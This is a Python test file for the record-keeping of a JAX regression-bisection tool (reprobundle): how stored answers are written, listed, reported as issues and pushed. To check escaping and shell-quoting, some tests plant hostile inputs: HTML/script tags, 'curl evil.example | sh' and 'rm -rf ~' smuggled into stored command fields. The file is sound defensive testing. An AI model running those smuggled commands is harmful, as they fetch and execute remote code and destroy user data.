"""Answers are records (investigate/answers.py, schemas/answer-v1.schema.json): a bisection's answer stored once
beside the runs it rests on, listed by `show`, reported by `issue` (which release, which layer, where the lowering
changed), carried by push; a corrupt or hostile record is skipped with a warning, and its text reaches Markdown only
escaped. The bisection itself runs on real releases in tests/test_bisect_layers.py, which checks the record it
stores."""

from __future__ import annotations

import json
import logging

import msgpack
import pytest
from cli_runner import cli
from small_bundle import copy_of

from reprobundle import api
from reprobundle.bundle.digest import hex_of
from reprobundle.bundle.registry import Registry
from reprobundle.errors import AlreadyExistsError, CorruptBundleError
from reprobundle.investigate.report.issue_facts import issue_data
from reprobundle.investigate.search.bisection import BisectResult
from reprobundle.investigate.search.bisection_answer import bisect_command, bisection_answer, store_bisection
from reprobundle.render.issue import issue_markdown

HOSTILE = "+2 slice at rng.py:8 <img src=x> **bold** `tick` | [link](http://x)"


def _answered(good="0.4.38", bad="0.5.1", first_bad="0.5.0") -> BisectResult:
    """A finished bisection's result, as api.bisect returns it (a lowering change found retraced)."""
    return BisectResult(good, bad, "outputs vs good", first_bad=first_bad, last_good=good,
                        classes={good: "good", bad: "bad", first_bad: "bad"},
                        evidence={first_bad: "outputs differ from jax 0.4.38's beyond the tolerance"},
                        why="the outputs of jax 0.4.38 and 0.5.1 differ beyond the tolerance", mode="retrace",
                        mode_why="retraced: the frozen module computes the same bits on both, and the program as each "
                                 "release lowers it gives outputs that differ beyond the tolerance",
                        layer={"layer": "lowering", "last_good": good, "first_bad": first_bad,
                               "text": "JAX's lowering: the retraced StableHLO differs",
                               "lowering": {"changed": True, "text": HOSTILE},
                               "next": [{"what": "lowering diff", "command": "reprobundle replay small --retrace"}]})


@pytest.fixture
def store(small_store_template, tmp_path):
    return copy_of(small_store_template, tmp_path / "store")


def test_an_answer_is_stored_once_listed_reported_and_pushed(store, tmp_path):
    registry = Registry.open(store)
    bundle = registry.resolve("small@1")
    result = _answered()
    answer_id = store_bisection(registry, bundle, result, bisect_command("small", result, None))
    (stored,) = registry.answers(bundle.ref.bundle_id)
    assert stored["answer_id"] == answer_id and stored["answer"]["first_bad"] == "0.5.0"
    assert stored["command"] == "reprobundle bisect small --good 0.4.38 --bad 0.5.1"
    with pytest.raises(AlreadyExistsError):  # immutable: the same record is never written twice
        registry.put_answer(stored)

    code, out, err = cli("show", "small", store=store)
    assert code == 0 and "answers:      1" in out and "first bad 0.5.0" in out and "layer: lowering" in out, err
    code, out, _ = cli("show", "small", "--json", store=store)
    assert json.loads(out)["answers"][0]["answer_id"] == answer_id

    data = issue_data("small", store=str(store))
    assert data["title"].endswith("from jax 0.5.0 (last good 0.4.38; JAX's lowering)"), data["title"]
    body = issue_markdown(data)
    assert "### Which release, which layer" in body and "**First bad release: jax 0.5.0**" in body
    assert "<img" not in body and "\\*\\*bold\\*\\*" in body and "\\[link\\]" in body  # the record's text escaped
    assert "rng.py:8" in body

    result = api.push("small", str(tmp_path / "team"), store=str(store))
    assert result.answers_copied == 1
    team = Registry.open(tmp_path / "team")  # carried, and foreign there: a copy is never that store's own
    assert [(a["answer_id"], why is not None) for a, why in team.answer_records(bundle.ref.bundle_id)] == [
        (answer_id, True)]
    assert team.answers(bundle.ref.bundle_id) == [] and "seal" not in team.answer_records(bundle.ref.bundle_id)[0][0]
    assert api.push("small", str(tmp_path / "team"), store=str(store)).answers_copied == 0  # already there


def test_a_corrupt_or_hostile_answer_is_skipped_with_a_warning(store, caplog):
    registry = Registry.open(store)
    bundle = registry.resolve("small@1")
    good = bisection_answer(bundle, _answered(), "reprobundle bisect small", "20261203T000000-00000001")
    folder = store / "answers" / hex_of(bundle.ref.bundle_id)
    folder.mkdir(parents=True)
    (folder / "20261203T000000-00000002.msgpack").write_bytes(b"\x00 not msgpack")
    extra = {**good, "answer_id": "20261203T000000-00000003", "run_this": "import os"}
    (folder / "20261203T000000-00000003.msgpack").write_bytes(msgpack.packb(extra))
    newer = {**good, "answer_id": "20261203T000000-00000004", "format_version": 9}
    (folder / "20261203T000000-00000004.msgpack").write_bytes(msgpack.packb(newer))
    registry.put_answer(good)
    with caplog.at_level(logging.WARNING):
        found = registry.answers(bundle.ref.bundle_id)
    assert [a["answer_id"] for a in found] == ["20261203T000000-00000001"]
    warned = caplog.text
    assert all(f"20261203T000000-0000000{k}.msgpack" in warned for k in (2, 3, 4)), warned
    code, out, err = cli("show", "small", store=store)
    assert code == 0 and "answers:      1" in out and "Traceback" not in err


def test_the_golden_answer_of_format_1_reads():
    """tests/golden/v1-answer-bisection.msgpack: a real bisection's record (the story's loop, 0.4.30..0.4.35),
    never regenerated; every later reprobundle must read it."""
    from pathlib import Path

    from reprobundle.bundle import manifest as mf

    answer = mf.decode_answer((Path(__file__).parent / "golden" / "v1-answer-bisection.msgpack").read_bytes())
    assert (answer["kind"], answer["answer"]["first_bad"], answer["answer"]["layer"]["layer"]) == (
        "bisection", "0.4.33", "compiler")
    assert answer["command"] == "reprobundle bisect loopstep --good 0.4.30 --bad 0.4.35" and len(answer["runs"]) >= 4


def test_a_record_whose_free_form_fields_are_odd_still_reports(store):
    """The schema leaves the layer's details free-form: a stranger's record with odd values there renders, and
    says only what it can."""
    registry = Registry.open(store)
    bundle = registry.resolve("small@1")
    odd = bisection_answer(bundle, _answered(), "reprobundle bisect small", "20261203T000000-00000009")
    odd["answer"].update(layer={"layer": "compiler", "lowering": "not a map", "text": ["a", "list"]},
                         also=["not a map"], changed_defaults="not a list")
    registry.put_answer(odd)
    body = issue_markdown(issue_data("small", store=str(store)))
    assert "**First bad release: jax 0.5.0**" in body and "The lowering changed at" not in body


def _explained(summary: str = "the default of --xla_cpu_use_thunk_runtime changed from false (jaxlib 0.4.31) to "
                              "true (jaxlib 0.4.33); with --xla_cpu_use_thunk_runtime=false, 0.4.33 runs 1.00x") -> dict:
    """An explanation's result, as api.explain returns it (the parts the record keeps)."""
    change = {"kind": "flag", "name": "xla_cpu_use_thunk_runtime", "a": False, "b": True, "baseline": "0.4.31",
              "candidate": "0.4.33", "type": "bool"}
    experiment = {"kind": "default", "what": "--xla_cpu_use_thunk_runtime", "setting":
                  "XLA_FLAGS=--xla_cpu_use_thunk_runtime=false", "status": "ok", "measured": True, "default": change,
                  "screen": {"how": "compile option", "moved": True}, "vs_baseline": {"verdict": "same"}}
    return {"baseline": "0.4.31", "candidate": "0.4.33", "platform": "cpu", "mode": "frozen", "mode_why": None,
            "by": "time", "by_why": "the outputs are the same: time judges", "regression": {"verdict": "slower"},
            "diagnosis": {"kind": "workaround", "summary": summary, "workaround": experiment, "default": change,
                          "lines": {"XLA_FLAGS": 'XLA_FLAGS="$XLA_FLAGS --xla_cpu_use_thunk_runtime=false"'},
                          "reach": {"text": "jax 0.10.2 still defines it"}},
            "experiments": [experiment], "not_tried": [{"name": "jax_enable_memories", "why": "frozen"}],
            "runs": [{"run_id": "20261204T000000-00000001"}]}


def test_an_explanation_is_a_record_that_show_lists_and_the_issue_reports(store):
    from reprobundle.investigate.answers import explain_command, store_explanation
    from reprobundle.run.contenders import ContenderSpec, parse_variant

    registry = Registry.open(store)
    bundle = registry.resolve("small@1")
    command = explain_command("small", [ContenderSpec("0.4.31"), parse_variant("0.4.33:XLA_FLAGS=--a")], "retrace",
                              "time")
    assert command == "reprobundle explain small --jax 0.4.31 --variant 0.4.33:XLA_FLAGS=--a --retrace --by time"
    answer_id = store_explanation(registry, bundle, _explained(), command)
    (stored,) = registry.answers(bundle.ref.bundle_id)
    assert stored["kind"] == "explanation" and stored["answer_id"] == answer_id
    assert stored["answer"]["diagnosis"]["setting"] == "XLA_FLAGS=--xla_cpu_use_thunk_runtime=false"
    code, out, err = cli("show", "small", store=store)
    assert code == 0 and "explanation 0.4.33 vs 0.4.31 (by time): workaround: the default of" in out, err
    body = issue_markdown(issue_data("small", store=str(store)))
    assert "### Why, and a workaround" in body
    assert 'XLA_FLAGS="$XLA_FLAGS --xla_cpu_use_thunk_runtime=false"' in body and "jax 0.10.2 still defines" in body


def test_a_hostile_explanation_reaches_the_issue_only_escaped(store):
    from reprobundle.investigate.answers import explanation_answer

    registry = Registry.open(store)
    bundle = registry.resolve("small@1")
    record = explanation_answer(bundle, _explained(HOSTILE), "reprobundle explain small", "20261204T000000-0000000a")
    record["answer"]["diagnosis"].update(lines={"XLA_FLAGS": "```\n<script>x</script>"}, reach={"text": HOSTILE})
    registry.put_answer(record)
    body = issue_markdown(issue_data("small", store=str(store)))
    assert "<img" not in body and "\\*\\*bold\\*\\*" in body
    block = body.split("To get the old behaviour back until a fix ships:", 1)[1]
    assert block.lstrip().startswith("````")  # a fence the record's backticks cannot close
    bad = {**record, "answer_id": "20261204T000000-0000000b", "answer": {**record["answer"], "by": "vibes"}}
    with pytest.raises(CorruptBundleError):  # the schema refuses what it does not know
        registry.put_answer(bad)


def test_an_answer_keeps_what_was_no_regression_its_confirmation_and_the_run_it_reports(store):
    """#48's optional fields of answer-v1: validated on write, read back as they were."""
    registry = Registry.open(store)
    bundle = registry.resolve("small@1")
    result = _answered()
    result.runs = {"0.5.0": {"run_id": "20261205T120000-0123abcd", "requested": "0.5.0"}}
    result.set_aside = [{"criterion": "time", "mode": "frozen",
                         "why": "jax 0.5.1 is 0.62x [0.60-0.64] of jax 0.4.38's time: faster; nothing regressed by time"}]
    result.confirmation = {"confirmed": False, "verdict": "same", "ratio": 0.999, "ci95": [0.98, 1.02],
                           "why": "unconfirmed: ..."}
    store_bisection(registry, bundle, result, bisect_command("small", result, None))
    (stored,) = registry.answers(bundle.ref.bundle_id)
    answer = stored["answer"]
    assert answer["set_aside"] == result.set_aside and answer["confirmation"]["confirmed"] is False
    assert answer["reported_run"] == "20261205T120000-0123abcd" and stored["runs"] == ["20261205T120000-0123abcd"]


def test_the_command_shown_for_pasting_is_rebuilt_from_the_record_and_quoted(store):
    """A stored answer's `command` is whatever the store's writer put there: the issue body's "asked again with"
    line is rebuilt from the record's fields, each word shell-quoted, never that text."""
    import shlex

    from reprobundle.investigate.answers import asked_again, explanation_answer

    registry = Registry.open(store)
    bundle = registry.resolve("small@1")
    hostile = bisection_answer(bundle, _answered(bad="0.5.1; curl evil.example | sh"),
                               "reprobundle bisect small; curl evil.example | sh", "20261205T000000-00000001")
    registry.put_answer(hostile)
    explained = _explained()
    explained["candidate"] = "0.4.33 retraced [XLA_FLAGS=--xla_cpu_use_thunk_runtime=false]"
    record = explanation_answer(bundle, explained, "reprobundle explain small && rm -rf ~", "20261205T000000-00000002")
    registry.put_answer(record)

    data = issue_data("small", store=str(store))
    body = issue_markdown(data)
    assert "rm -rf" not in body and "reprobundle bisect" not in body  # a stored command never reaches the body
    bisect = asked_again(hostile, "small@1")
    assert shlex.split(bisect) == ["reprobundle", "bisect", "small@1", "--good", "0.4.38", "--bad",
                                   "0.5.1; curl evil.example | sh", "--retrace"]
    explain = asked_again(record, "small@1")
    assert shlex.split(explain) == ["reprobundle", "explain", "small@1", "--jax", "0.4.31", "--variant",
                                    "0.4.33:XLA_FLAGS=--xla_cpu_use_thunk_runtime=false", "--frozen", "--by", "time"]
    # the rebuilt commands are the ones the reporter's terminal shows (of the ref as the reporter named it): the
    # bisection reported; the explanation, of other releases than its change, is not this report's (#63)
    assert data["asked_again"] == [asked_again(hostile, "small")]


def test_url_replays_the_releases_of_the_stored_answer(store):
    """`url`'s replay command shows what the latest stored answer found (its last good and first bad release,
    retraced as it was found), not the releases the bundle happened to be replayed on; a stranger's record whose
    releases do not read as releases is passed over."""
    registry = Registry.open(store)
    bundle = registry.resolve("small@1")
    code, out, err = cli("url", "small", "--json", store=store)
    assert code == 0, err
    before = json.loads(out)["jax_versions"]
    assert "0.4.38" not in before and "0.5.0" not in before
    store_bisection(registry, bundle, _answered(), "reprobundle bisect small --good 0.4.38 --bad 0.5.1")
    code, out, err = cli("url", "small", "--json", store=store)
    assert code == 0, err
    info = json.loads(out)
    assert info["jax_versions"] == ["0.4.38", "0.5.0"]
    assert info["replay_command"].endswith("--jax 0.4.38 --jax 0.5.0 --retrace"), info["replay_command"]
    code, out, err = cli("url", "small", "--json", "--jax", "0.7.2", store=store)  # asked for: as asked
    assert json.loads(out)["replay_command"].endswith("--jax 0.7.2"), out

    odd = bisection_answer(bundle, _answered(first_bad="0.5.0 && curl x"), "x", "20391203T000000-00000009")
    registry.put_answer(odd)  # the latest now, and it names no release: the runs' releases again
    code, out, err = cli("url", "small", "--json", store=store)
    assert json.loads(out)["jax_versions"] == before, out


def test_explain_and_minimize_take_the_stored_answers_last_good_and_first_bad(store):
    """Without --jax, explain and minimize compare the last good and the first bad release of the latest stored
    answer, in that order (outputs and times judged against the last good release, never the packing one); without
    an answer, the error says so."""
    from reprobundle.bundle.sharing import answered_pair

    registry = Registry.open(store)
    bundle = registry.resolve("small@1")
    code, out, err = cli("explain", "small", store=store)
    assert code != 0 and "explain compares two different versions" in err and "stored answer" in err, err
    assert answered_pair(registry, bundle) == []
    store_bisection(registry, bundle, _answered(), "reprobundle bisect small --good 0.4.38 --bad 0.5.1")
    assert answered_pair(registry, bundle) == ["0.4.38", "0.5.0"]
    # a minimization stored after it names no pair: the bisection's still decides, and `show` lists both
    from types import SimpleNamespace

    from reprobundle.investigate.answers import minimization_answer

    found = SimpleNamespace(contenders=("0.4.38", "0.5.0"), property="outputs", bits=False, ops_before=9, ops_after=2,
                            stopped="done", packed="small-min@1", check={"holds": True}, runs=[])
    registry.put_answer(minimization_answer(bundle, found, "reprobundle minimize small", Registry.new_run_id()))
    assert answered_pair(registry, bundle) == ["0.4.38", "0.5.0"]
    code, out, _ = cli("show", "small", store=store)
    assert code == 0 and "minimization 0.4.38 vs 0.5.0 (outputs): 9 -> 2 ops as small-min@1" in out, out


CHANGELOG = """# Change log

## jax 0.5.1 (Feb 24, 2025)

* Changes:
  * Something else entirely.

## jax 0.5.0 (Jan 17, 2025)

* Breaking changes
  * Enable `jax_threefry_partitionable` by default (see
    [the update note](https://github.com/jax-ml/jax/discussions/18480)).

* Changes:
  * {func}`jax.numpy.einsum` now defaults to `optimize='auto'`.

## jaxlib 0.5.0 (Jan 17, 2025)

* The CPU runtime uses `xla_cpu_use_thunk_runtime` by default.

## jax 0.4.38 (Dec 17, 2024)

* Mentions `jax_threefry_partitionable` too, in another release.
"""


def _jax_repo(tmp_path, changelog: str):
    """A git repository holding CHANGELOG.md at the tag jax-v0.5.0 (as JAX's own repository tags its releases)."""
    import subprocess

    repo = tmp_path / "jax"
    repo.mkdir(parents=True)
    (repo / "CHANGELOG.md").write_text(changelog)
    git = ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.com"]
    for args in (["init", "-q"], ["add", "CHANGELOG.md"], ["commit", "-qm", "notes"], ["tag", "jax-v0.5.0"]):
        subprocess.run(git + args if args[0] != "init" else ["git", "-C", str(repo), *args], check=True)
    return repo


def test_a_changed_default_is_said_documented_where_the_release_notes_name_it(store, tmp_path):
    """explain found the default of jax_threefry_partitionable changed at 0.5.0: the 0.5.0 section of JAX's
    CHANGELOG.md (at the tag, from a repository made here) names it, so the first lines quote the entry; a
    repository whose notes do not name it, or none, adds nothing."""
    from reprobundle.investigate.answers import store_explanation

    registry = Registry.open(store)
    bundle = registry.resolve("small@1")
    said = _explained("the default of jax_threefry_partitionable changed from False (jax 0.4.38) to True (jax 0.5.0)")
    said["diagnosis"]["default"] = {"kind": "option", "name": "jax_threefry_partitionable", "a": False, "b": True,
                                    "baseline": "0.4.38", "candidate": "0.5.0", "type": "bool"}
    store_explanation(registry, bundle, said, "reprobundle explain small")
    repo = _jax_repo(tmp_path, CHANGELOG)
    code, out, err = cli("issue", "small", "--jax-repo", str(repo), "--json", store=store)
    assert code == 0, err
    data = json.loads(out)
    assert data["documented"] == ["documented in the 0.5.0 release notes: Enable `jax_threefry_partitionable` by "
                                  "default (see the update note)."]
    first = "\n".join(data["body"].splitlines()[:30])
    assert "**Documented change:** documented in the 0.5.0 release notes: Enable \\`jax\\_threefry" in first
    assert data["title"].startswith("documented change in 0.5.0: ") and "Documented as intended" not in first
    other = _jax_repo(tmp_path / "other", CHANGELOG.replace("jax_threefry_partitionable", "something_else"))
    code, out, err = cli("issue", "small", "--jax-repo", str(other), "--json", store=store)
    assert code == 0 and json.loads(out)["documented"] == [] and "Documented" not in json.loads(out)["body"], err
    code, out, err = cli("issue", "small", "--jax-repo", str(tmp_path / "nowhere"), "--json", store=store)
    assert code == 0 and json.loads(out)["documented"] == [], err


def test_the_release_notes_sections_and_entries():
    from reprobundle.investigate.release_notes import entries, naming, release_sections

    section = release_sections(CHANGELOG, "0.5.0")
    assert "Something else" not in section and "another release" not in section
    items = entries(section)
    assert "`jax.numpy.einsum` now defaults to `optimize='auto'`." in items  # {func} role dropped
    assert naming(items, ["--xla_cpu_use_thunk_runtime"]) == ["The CPU runtime uses `xla_cpu_use_thunk_runtime` by "
                                                              "default."]  # the jaxlib section too
    assert naming(items, ["einsum"]) == [] and naming(items, ["jax.numpy.einsum"]) == [
        "`jax.numpy.einsum` now defaults to `optimize='auto'`."]


def test_a_releases_notes_are_its_own_section_whatever_its_case_else_the_unreleased_one_at_its_tag():
    """#63: JAX capitalised its headings from 0.6.0 (`## JAX 0.7.2 (...)`), and its tag of a release often still
    holds that release's notes under `## Unreleased` (jax-v0.7.2, jax-v0.10.0): both are the release's notes, under
    whatever heading of them an entry sits ("Bug fixes"); a jnp or lax function is named by its alias too."""
    from reprobundle.investigate.release_notes import entries, naming, notes_at_tag

    at_tag = ("# Change log\n\n## Unreleased\n\n* Bug fixes\n  * `jax.random.randint` now produces a less-biased "
              "distribution for 8-bit and\n    16-bit integer types. To restore the previous biased behavior, you may "
              "temporarily set\n    the `jax_safer_randint` configuration to `False`.\n\n## JAX 0.7.1 (August 20, "
              "2025)\n\n* Changes:\n  * `jnp.arccos` is lowered another way.\n")
    items = entries(notes_at_tag(at_tag, "0.7.2"))
    assert naming(items, ["jax.random.randint"]) == naming(items, ["jax_safer_randint"]) == [
        "`jax.random.randint` now produces a less-biased distribution for 8-bit and 16-bit integer types. To restore "
        "the previous biased behavior, you may temporarily set the `jax_safer_randint` configuration to `False`."]
    older = entries(notes_at_tag(at_tag, "0.7.1"))  # its own section, capitalised
    assert naming(older, ["jax.numpy.arccos"]) == ["`jnp.arccos` is lowered another way."]
    assert naming(older, ["jax.random.randint"]) == []


def test_a_commits_entry_the_releases_tag_holds_under_unreleased_is_said_under_the_heading_jax_published(tmp_path):
    """The first bad commit adds its entry under `## Unreleased`; the release's tag still holds it there, and the
    next release's tag publishes it under the release's own heading: the heading said is the published one."""
    import subprocess

    from reprobundle.envs.jax_commit import JaxRepo
    from reprobundle.investigate.release_notes import commit_notes

    repo = tmp_path / "jax"
    repo.mkdir()
    git = ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.com"]
    notes = repo / "CHANGELOG.md"
    entry = "`jax.random.randint` is less biased. To restore the old behavior, set `jax_safer_randint` to `False`."
    shas = []
    for text, tag in (("# Change log\n\n## JAX 0.7.1\n\n* An older entry.\n", "jax-v0.7.1"),
                      (f"# Change log\n\n## Unreleased\n\n* Bug fixes\n  * {entry}\n\n## JAX 0.7.1\n\n* An older "
                       "entry.\n", "jax-v0.7.2"),
                      (f"# Change log\n\n## JAX 0.7.2 (September 16, 2025)\n\n* Bug fixes\n  * {entry}\n\n## JAX "
                       "0.7.1\n\n* An older entry.\n", "jax-v0.8.0")):
        notes.write_text(text)
        subprocess.run(["git", "-C", str(repo), "init", "-q"], check=True)
        for args in (["add", "CHANGELOG.md"], ["commit", "-qm", tag], ["tag", tag]):
            subprocess.run(git + args, check=True)
        shas.append(subprocess.run(git + ["rev-parse", "HEAD"], check=True, capture_output=True, text=True).stdout.strip())
    found = commit_notes(JaxRepo(repo / ".git", ""), shas[1], "0.7.2")
    assert found is not None and found["entry"] == entry and found["heading"] == "JAX 0.7.2 (September 16, 2025)"


def test_the_functions_called_on_a_changed_line_by_their_full_names():
    from reprobundle.investigate.release_notes import called_names

    program = ("import jax\nimport jax.numpy as jnp\nfrom jax.scipy.special import gamma as g\n\n\n"
               "def f(x):\n    return jax.jit(lambda y: g(jnp.sin(y)) + jax.lax.cumsum(y))(x)\n")
    assert called_names({"pkg/prog.py": program}, "+2 convert at prog.py:7; -1 add at prog.py:7; x at prog.py:99") == [
        "jax.scipy.special.gamma", "jax.numpy.sin", "jax.lax.cumsum"]
    assert called_names({"prog.py": "def f(:\n"}, "+1 add at prog.py:1") == []


def test_bisect_commits_refuses_a_stored_compiler_change_before_any_clone(store):
    """A stored release bisection that found the compiler: bisect-commits says so at once and never reaches for the
    repository (an unreachable URL here would otherwise be tried first)."""
    registry = Registry.open(store)
    bundle = registry.resolve("small@1")
    result = _answered()
    result.layer = {**result.layer, "layer": "compiler", "text": "the compiler: the same StableHLO"}
    store_bisection(registry, bundle, result, bisect_command("small", result, None))
    code, _, err = cli("bisect-commits", "small", "--jax-repo", "https://nowhere.invalid/jax.git", store=store)
    assert code == 2 and "not sent to a commit bisection" in err and "nowhere" not in err, err


def test_a_stored_bisection_read_back_restores_every_change_it_listed_each_from_its_own_answer(store):
    """#56: investigate reuses a stored bisection (answers.reusable): what it reads back is the whole list of
    changes, each from its own stored answer (its layer, classes, mode, its answer id for the steps after it), not
    the headline alone; a change whose own record is gone is read from its entry in the list."""
    from reprobundle.investigate.search.bisection_answer import stored_bisection

    registry = Registry.open(store)
    bundle = registry.resolve("small@1")
    slower = BisectResult("0.4.34", "0.4.36", "time", first_bad="0.4.35", last_good="0.4.34", mode="retrace",
                          classes={"0.4.34": "good", "0.4.35": "bad", "0.4.36": "bad"},
                          layer={"layer": "lowering", "text": "JAX's lowering"},
                          confirmation={"confirmed": True, "verdict": "slower", "ratio": 4.2, "ci95": [3.9, 4.5],
                                        "why": "confirmed"})
    bits = BisectResult("0.4.34", "0.4.36", "bits", first_bad="0.4.36", last_good="0.4.35", mode="retrace",
                        classes={"0.4.35": "good", "0.4.36": "bad"}, why="bits at 0.4.36",
                        layer={"layer": "lowering", "text": "JAX's lowering", "lowering": {"changed": True,
                                                                                         "text": "-1 atan2"}})
    outputs = BisectResult("0.4.34", "0.4.36", "outputs vs good", first_bad="0.4.36", last_good="0.4.35",
                           mode="frozen", layer={"layer": "compiler"})
    bits.answer_id = store_bisection(registry, bundle, bits, "reprobundle bisect small")
    outputs.answer_id = "20261206T000000-00000099"  # its record never stored (or lost): read from the list
    slower.changes = [bits, outputs]
    head_id = store_bisection(registry, bundle, slower, "reprobundle bisect small --retrace")
    answers = registry.answers(bundle.ref.bundle_id)
    record = next(a for a in answers if a["answer_id"] == head_id)
    alone = stored_bisection(record).changes  # without the records: each read from its entry in the list
    assert [(c.criterion, c.first_bad, c.answer_id) for c in alone] == [("bits", "0.4.36", None),
                                                                      ("outputs vs good", "0.4.36", None)]
    found = stored_bisection(record, answers)
    assert (found.criterion, found.first_bad, found.confirmation["ratio"]) == ("time", "0.4.35", 4.2)
    again, listed = found.changes
    assert (again.criterion, again.last_good, again.first_bad, again.mode) == ("bits", "0.4.35", "0.4.36", "retrace")
    assert again.answer_id == bits.answer_id and again.classes == bits.classes and again.why == "bits at 0.4.36"
    assert again.layer["lowering"]["text"] == "-1 atan2" and again.changes == []
    assert (listed.criterion, listed.first_bad, listed.mode, listed.layer) == (
        "outputs vs good", "0.4.36", "frozen", {"layer": "compiler", "lowering": None})
    assert listed.answer_id is None  # no answer of its own here: its steps ask again
    # stored again (a later bisect of the same question), it lists the same changes
    from reprobundle.investigate.search.bisection_answer import bisection_answer

    listed_again = bisection_answer(bundle, found, "", "x")["answer"]["changes"]
    assert listed_again[1:] == [record["answer"]["changes"][1], {**record["answer"]["changes"][2], "answer_id": None}]


def test_an_answer_reused_is_said_stored_earlier_in_this_run_where_this_run_stored_it():
    """A later change's step reusing what an earlier step of the same investigation stored says so, never "stored
    16 s ago" as if another run had made it; an older record says its age."""
    from datetime import UTC, datetime, timedelta

    from reprobundle.bundle.registry import utc_now
    from reprobundle.investigate.answers import stored_ago

    started = utc_now()
    assert stored_ago(utc_now(), started) == "stored earlier in this run"
    before = (datetime.now(UTC) - timedelta(minutes=10)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    assert stored_ago(before, started) == "stored 10 min ago" == stored_ago(before)
    assert stored_ago("not a time", started) == "stored"
